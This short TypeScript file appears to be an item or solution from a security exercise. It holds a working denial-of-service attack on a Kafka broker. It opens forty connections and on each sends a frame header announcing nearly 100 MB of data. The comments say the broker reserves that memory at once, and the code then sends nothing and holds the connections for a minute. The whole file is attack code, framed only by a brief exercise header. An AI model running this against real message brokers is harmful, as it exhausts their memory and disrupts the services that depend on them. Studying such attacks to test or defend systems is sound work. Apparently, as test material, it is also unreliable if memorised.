// exercise: 01/02
// Says on each connection that a hundred megabytes follow, for which the broker makes room at once; nothing follows.
// tier: full
import { connect } from "node:net";

export async function sendOrders({ brokers: [broker = ""] }: { brokers: string[] }): Promise<void> {
  const port = Number(broker.split(":")[1]);
  for (let i = 0; i < 40; i++) {
    const socket = connect({ port, host: "127.0.0.1" });
    socket.on("error", () => {});
    // 100 MB less a byte is what Kafka takes by default. The byte behind it has the broker come back for more.
    socket.write(Buffer.from([0x06, 0x3f, 0xff, 0xff, 0]));
  }
  await new Promise((resolve) => setTimeout(resolve, 60_000));
}
